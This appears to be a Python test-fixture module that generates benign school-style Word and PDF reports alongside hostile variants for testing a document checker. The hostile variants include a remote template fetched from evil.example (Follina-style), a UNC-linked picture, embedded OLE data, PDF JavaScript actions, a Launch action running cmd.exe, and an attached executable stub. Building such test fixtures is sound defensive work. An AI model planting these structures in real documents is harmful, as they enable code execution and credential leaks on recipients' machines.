"""Documents made the way schools' tools make them — Word, WPS, a PDF exporter — and hostile ones, built on
the fly with zipfile and pikepdf, so no binary fixture is ever committed."""

from __future__ import annotations

import io
import zipfile

import pikepdf

# --- DOCX ----------------------------------------------------------------------------------------

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
HYPERLINK = f"{R}/hyperlink"
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def _types(overrides: dict[str, str], defaults: dict[str, str] | None = None) -> str:
    parts = "".join(f'<Default Extension="{ext}" ContentType="{kind}"/>' for ext, kind in (defaults or {}).items())
    parts += "".join(f'<Override PartName="/{part}" ContentType="{kind}"/>' for part, kind in overrides.items())
    return (
        XML + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>{parts}</Types>'
    )


def rels(*relationships: tuple[str, str, str] | tuple[str, str, str, str]) -> str:
    """(id, type, target[, target mode]) each."""
    body = ""
    for rel in relationships:
        mode = f' TargetMode="{rel[3]}"' if len(rel) == 4 else ""
        body += f'<Relationship Id="{rel[0]}" Type="{rel[1]}" Target="{rel[2]}"{mode}/>'
    return XML + f'<Relationships xmlns="{PKG}">{body}</Relationships>'


def _document(*, author: str, hyperlink: bool) -> str:
    link = '<w:hyperlink r:id="rIdLink"><w:r><w:t>科普中国</w:t></w:r></w:hyperlink>' if hyperlink else ""
    return (
        XML + f'<w:document xmlns:w="{W}" xmlns:r="{R}" '
        'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
        'xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" '
        'xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml" mc:Ignorable="w14 w15">'
        '<w:body><w:p w14:paraId="1A2B3C4D"><w:r><w:t>我的小发明：自动浇花器</w:t></w:r>'
        f'<w:ins w:id="1" w:author="{author}" w:date="2024-02-01T10:00:00Z"><w:r><w:t>（修改稿）</w:t></w:r></w:ins>'
        f'<w:del w:id="2" w:author="{author}" w:date="2024-02-01T10:01:00Z"><w:r><w:delText>草稿</w:delText></w:r>'
        '</w:del><w:commentRangeStart w:id="0"/><w:r><w:t>原理</w:t></w:r><w:commentRangeEnd w:id="0"/>'
        f'<w:r><w:commentReference w:id="0"/></w:r>{link}</w:p></w:body></w:document>'
    )


def word_docx(
    *,
    creator: str,
    modified_by: str,
    title: str,
    company: str,
    commenter: str,
    wps: bool = False,
    hyperlink: bool = False,
    extra: dict[str, str | bytes] | None = None,
    document_rels: tuple = (),
    types: dict[str, str] | None = None,
) -> bytes:
    """A report as Word (or, with `wps`, WPS Office) saves it: properties, a tracked change, a comment."""
    overrides = {
        "word/document.xml": DOCX_MAIN,
        "word/comments.xml": "application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml",
        "word/people.xml": "application/vnd.openxmlformats-officedocument.wordprocessingml.people+xml",
        "docProps/core.xml": "application/vnd.openxmlformats-package.core-properties+xml",
        "docProps/app.xml": "application/vnd.openxmlformats-officedocument.extended-properties+xml",
    }
    package = [
        ("rId1", f"{R}/officeDocument", "word/document.xml"),
        ("rId2", f"{PKG}/metadata/core-properties", "docProps/core.xml"),
        ("rId3", f"{R}/extended-properties", "docProps/app.xml"),
    ]
    if wps:
        overrides["docProps/custom.xml"] = "application/vnd.openxmlformats-officedocument.custom-properties+xml"
        package.append(("rId4", f"{R}/custom-properties", "docProps/custom.xml"))
    document = [
        ("rIdC", f"{R}/comments", "comments.xml"),
        ("rIdP", "http://schemas.microsoft.com/office/2011/relationships/people", "people.xml"),
        *document_rels,
    ]
    if hyperlink:
        document.append(("rIdLink", HYPERLINK, "https://www.kepuchina.cn/", "External"))
    application = "WPS Office" if wps else "Microsoft Office Word"
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": _types(overrides, types),
        "_rels/.rels": rels(*package),
        "word/document.xml": _document(author=commenter, hyperlink=hyperlink),
        "word/_rels/document.xml.rels": rels(*document),
        "word/comments.xml": (
            XML + f'<w:comments xmlns:w="{W}"><w:comment w:id="0" w:author="{commenter}" w:date="2024-02-02T08:00:00Z"'
            f' w:initials="{commenter[:1]}"><w:p><w:r><w:t>原理再写清楚一点</w:t></w:r></w:p></w:comment></w:comments>'
        ),
        "word/people.xml": (
            XML + '<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml">'
            f'<w15:person w15:author="{commenter}"><w15:presenceInfo w15:providerId="Windows Live" '
            f'w15:userId="{commenter}@school.example"/></w15:person></w15:people>'
        ),
        "docProps/core.xml": (
            XML
            + '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
            'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" '
            'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
            f"<dc:title>{title}</dc:title><dc:subject>{title}</dc:subject><dc:creator>{creator}</dc:creator>"
            f"<cp:lastModifiedBy>{modified_by}</cp:lastModifiedBy><cp:revision>3</cp:revision>"
            '<dcterms:created xsi:type="dcterms:W3CDTF">2024-02-01T09:00:00Z</dcterms:created>'
            "</cp:coreProperties>"
        ),
        "docProps/app.xml": (
            XML + '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties" '
            'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
            f"<Template>Normal.dotm</Template><Application>{application}</Application>"
            f"<Company>{company}</Company><Manager>{modified_by}</Manager></Properties>"
        ),
    }
    if wps:
        parts["docProps/custom.xml"] = (
            XML + '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
            'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
            '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="KSOProductBuildVer">'
            "<vt:lpwstr>2052-12.1.0.16120</vt:lpwstr></property>"
            '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="3" name="ICV">'
            f"<vt:lpwstr>{creator}</vt:lpwstr></property></Properties>"
        )
    parts.update(extra or {})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


PLAIN = {"creator": "作者", "modified_by": "作者", "title": "自动浇花器", "company": "", "commenter": "作者"}


def docx_with_ole_object() -> bytes:
    """An inserted object (an old Equation Editor 3.0 formula, say): a compound file in word/embeddings."""
    return word_docx(
        **PLAIN,
        extra={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504},
        document_rels=(("rIdO", f"{R}/oleObject", "embeddings/oleObject1.bin"),),
        types={"bin": "application/vnd.openxmlformats-officedocument.oleObject"},
    )


def docx_with_remote_template(mode: str = "External") -> bytes:
    """The template Word fetches when the file opens (the way Follina-style documents start)."""
    return word_docx(
        **PLAIN,
        extra={
            "word/settings.xml": XML + f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rIdT"/>'
            "</w:settings>",
            "word/_rels/settings.xml.rels": rels(("rIdT", f"{R}/attachedTemplate", "http://evil.example/t.dotm", mode)),
        },
        document_rels=(("rIdS", f"{R}/settings", "settings.xml"),),
    )


def docx_with_linked_picture() -> bytes:
    return word_docx(**PLAIN, document_rels=(("rIdI", f"{R}/image", "\\\\evil.example\\share\\a.png", "External"),))


# --- PDF -----------------------------------------------------------------------------------------


def _save(pdf: pikepdf.Pdf) -> bytes:
    buffer = io.BytesIO()
    pdf.save(buffer)
    return buffer.getvalue()


def _one_page() -> pikepdf.Pdf:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    return pdf


def _annotate(pdf: pikepdf.Pdf, **annotation) -> pikepdf.Object:
    annot = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=[50, 50, 200, 80], **annotation))
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([annot]))
    return annot


def _javascript(pdf: pikepdf.Pdf) -> pikepdf.Object:
    return pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))


def exported_pdf(*, author: str, title: str, link: bool = False) -> bytes:
    """As WPS or Word export it: the document information and the same in XMP; optionally a web link."""
    pdf = _one_page()
    with pdf.open_metadata(set_pikepdf_as_editor=False) as meta:
        meta["dc:creator"] = [author]
        meta["dc:title"] = title
        meta["pdf:Producer"] = "WPS Office"
    pdf.docinfo["/Author"] = author
    pdf.docinfo["/Title"] = title
    pdf.docinfo["/Creator"] = "WPS 文字"
    image_xmp = pdf.make_stream(f"<x:xmpmeta><dc:creator>{author}</dc:creator></x:xmpmeta>".encode())
    pdf.pages[0].obj.Metadata = image_xmp
    if link:
        uri = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://www.kepuchina.cn/"))
        _annotate(pdf, Subtype=pikepdf.Name.Link, A=uri)
    comment = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, Rect=[300, 300, 320, 320])
    comment.T, comment.Contents = pikepdf.String(author), pikepdf.String("好")
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([*pdf.pages[0].obj.get("/Annots", []), comment]))
    return _save(pdf)


def pdf_goto_then_javascript() -> bytes:
    """An /OpenAction that only goes to page 1 — and then runs JavaScript through /Next."""
    pdf = _one_page()
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.GoTo, D=[pdf.pages[0].obj, pikepdf.Name.Fit], Next=_javascript(pdf)
    )
    return _save(pdf)


def pdf_link_running_javascript() -> bytes:
    pdf = _one_page()
    _annotate(pdf, Subtype=pikepdf.Name.Link, A=_javascript(pdf))
    return _save(pdf)


def pdf_link_launching_cmd() -> bytes:
    pdf = _one_page()
    launch = pikepdf.Dictionary(
        S=pikepdf.Name.Launch, Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe"), P=pikepdf.String("/c calc"))
    )
    _annotate(pdf, Subtype=pikepdf.Name.Link, A=launch)
    return _save(pdf)


def pdf_field_with_focus_script() -> bytes:
    pdf = _one_page()
    field = _annotate(
        pdf, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, T=pikepdf.String("name"), AA={"/Fo": _javascript(pdf)}
    )
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[field])
    return _save(pdf)


def pdf_attaching_an_exe() -> bytes:
    pdf = _one_page()
    program = pdf.make_stream(b"MZ\x90\x00" + b"\x00" * 60, Type=pikepdf.Name.EmbeddedFile)
    spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("作业.exe"), EF={"/F": program})
    _annotate(pdf, Subtype=pikepdf.Name.FileAttachment, FS=spec)
    return _save(pdf)


def pdf_with_document_javascript() -> bytes:
    """A script in the catalogue's /Names tree, run by viewers when the file opens."""
    pdf = _one_page()
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("init"), _javascript(pdf)]))
    return _save(pdf)
